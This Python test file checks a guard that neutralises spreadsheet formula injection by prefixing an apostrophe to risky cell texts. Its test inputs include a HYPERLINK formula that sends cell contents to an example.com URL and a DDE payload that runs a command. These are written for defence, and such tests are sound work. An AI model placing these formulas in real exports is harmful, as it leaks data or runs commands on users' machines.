"""Texts that a spreadsheet would compute are made harmless, and others are left alone."""

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.serve.formulas import guarded, guarded_column

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.com/?" & A1, "grades")',
        "=cmd|'/c calc'!A0",
        "+1+cmd",
        "-2+3",
        "- Biology -",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\u3000＝1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "-1e5",
        "--1",
        "-\u0661",
    ],
)
def test_a_text_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Art", "a=1", "'=1", "1+1", "x@example.edu", " Art", "-1", "-12.50", "Ω-1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(st.lists(st.none() | st.text() | st.builds(str.__add__, st.sampled_from(SIGNS), st.text()), max_size=20))
def test_a_column_is_guarded_like_its_texts(texts: list[str | None]) -> None:
    result = guarded_column(pa.array(texts, pa.string()))

    assert result == [None if text is None else guarded(text) for text in texts]
    assert not [text for text in result if text and text[0] in SIGNS and text != guarded(text)]
